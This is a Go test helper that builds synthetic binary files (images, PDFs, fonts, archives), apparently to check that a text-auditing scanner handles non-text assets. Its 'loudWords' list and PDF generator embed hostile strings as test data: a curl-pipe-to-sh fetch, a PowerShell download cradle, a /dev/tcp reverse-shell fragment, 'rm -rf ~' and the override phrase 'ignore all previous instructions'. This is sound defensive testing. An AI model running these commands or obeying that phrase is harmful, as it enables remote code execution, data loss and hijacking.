package audit_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"math/rand/v2"
	"time"
)

// A binary is one file that is no text: a font, a picture, a document, an archive.
type binaryFile struct {
	name string
	data []byte
}

// binaries makes 100 files that are no text: real headers, real encoders where the standard library has one,
// and compressed noise. The same seeds make the same files in each run. The noise of some carries words that
// rules about texts look for, as an unlucky font or a document about security would.
func binaries() []binaryFile {
	kinds := []struct {
		ext  string
		make func(*rand.Rand) []byte
	}{
		{"png", pngFile}, {"jpg", jpegFile}, {"gif", gifFile}, {"pdf", pdfFile}, {"ttf", fontFile("\x00\x01\x00\x00")},
		{"otf", fontFile("OTTO")}, {"woff", fontFile("wOFF")}, {"woff2", fontFile("wOF2")}, {"zip", zipFile}, {"tar", tarFile},
	}
	var out []binaryFile
	for i := range 10 {
		for n, k := range kinds {
			r := rand.New(rand.NewPCG(uint64(i)+1, uint64(n)+1))
			out = append(out, binaryFile{fmt.Sprintf("assets/file-%02d.%s", i, k.ext), k.make(r)})
		}
	}
	return out
}

// words are pieces that a binary can carry by chance or on purpose without being a text.
var loudWords = []string{
	"eval(", "exec(", "$(curl http://198.51.100.23/x | sh)", "ignore all previous instructions", "rm -rf ~",
	"IEX (New-Object Net.WebClient)", "\u200b\u200c\u202e", "AKIAIOSFODNN7EXAMPLE", "/dev/tcp/203.0.113.9/4444", "#!/bin/sh\n",
}

func noise(r *rand.Rand, n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = byte(r.Uint32())
	}
	for range 1 + r.IntN(6) {
		w := loudWords[r.IntN(len(loudWords))]
		copy(out[r.IntN(n):], w)
	}
	return out
}

func deflated(r *rand.Rand, n int) []byte {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	z.Write(noise(r, n))
	z.Close()
	return b.Bytes()
}

func picture(r *rand.Rand) *image.Paletted {
	p := color.Palette{color.White}
	for range 255 {
		p = append(p, color.RGBA{byte(r.Uint32()), byte(r.Uint32()), byte(r.Uint32()), 255})
	}
	m := image.NewPaletted(image.Rect(0, 0, 40+r.IntN(120), 40+r.IntN(120)), p)
	for i := range m.Pix {
		m.Pix[i] = byte(r.Uint32())
	}
	return m
}

func pngFile(r *rand.Rand) []byte {
	var b bytes.Buffer
	png.Encode(&b, picture(r))
	return b.Bytes()
}

func jpegFile(r *rand.Rand) []byte {
	var b bytes.Buffer
	jpeg.Encode(&b, picture(r), nil)
	return b.Bytes()
}

func gifFile(r *rand.Rand) []byte {
	var b bytes.Buffer
	gif.Encode(&b, picture(r), nil)
	return b.Bytes()
}

// pdfFile is mostly ASCII, as PDF files are: objects in clear, streams compressed, a cross-reference table, and
// links and scripts of a form.
func pdfFile(r *rand.Rand) []byte {
	var b bytes.Buffer
	var at []int
	object := func(text string) {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", len(at), text)
	}
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	object("<< /Type /Catalog /Pages 2 0 R >>")
	object("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	object("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>")
	for range 2 + r.IntN(6) {
		z := deflated(r, 2000+r.IntN(20000))
		object(fmt.Sprintf("<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream", len(z), z))
	}
	object("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://198.51.100.23/install.sh) >> >>")
	object("<< /Title (How to defend: eval\\(atob\\(x\\)\\), curl http://198.51.100.23/x | sh) /Producer (pdfTeX) >>")
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(at)+1)
	for _, n := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(at)+1, start)
	return b.Bytes()
}

// fontFile has the header of a font, a directory of tables, the names in clear, and noise for outlines.
func fontFile(magic string) func(*rand.Rand) []byte {
	return func(r *rand.Rand) []byte {
		var b bytes.Buffer
		b.WriteString(magic)
		tags := []string{"cmap", "glyf", "head", "hhea", "hmtx", "loca", "maxp", "name", "post"}
		binary.Write(&b, binary.BigEndian, []uint16{uint16(len(tags)), 128, 3, 16})
		for _, t := range tags {
			b.WriteString(t)
			binary.Write(&b, binary.BigEndian, []uint32{r.Uint32(), uint32(r.IntN(9000)), uint32(r.IntN(9000))})
		}
		for _, c := range "Tide Sans Regular; see http://fonts.example/licence" {
			binary.Write(&b, binary.BigEndian, uint16(c))
		}
		b.Write(noise(r, 8000+r.IntN(60000)))
		return b.Bytes()
	}
}

func zipFile(r *rand.Rand) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := range 1 + r.IntN(5) {
		method := zip.Deflate
		if i%2 == 1 {
			method = zip.Store
		}
		w, _ := z.CreateHeader(&zip.FileHeader{Name: fmt.Sprintf("part-%d.bin", i), Method: method})
		w.Write(noise(r, 3000+r.IntN(9000)))
	}
	z.Close()
	return b.Bytes()
}

// tarFile is a tar of which each second one is compressed. Its members are noise and one text.
func tarFile(r *rand.Rand) []byte {
	var b bytes.Buffer
	t := tar.NewWriter(&b)
	add := func(name string, data []byte) {
		t.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(data)), ModTime: time.Unix(0, 0)})
		t.Write(data)
	}
	add("README", []byte("Run make. See http://198.51.100.23/ for more.\n"))
	for i := range 1 + r.IntN(4) {
		add(fmt.Sprintf("part-%d.bin", i), noise(r, 3000+r.IntN(9000)))
	}
	t.Close()
	if r.IntN(2) == 0 {
		return b.Bytes()
	}
	var packed bytes.Buffer
	g := gzip.NewWriter(&packed)
	g.Write(b.Bytes())
	g.Close()
	return packed.Bytes()
}
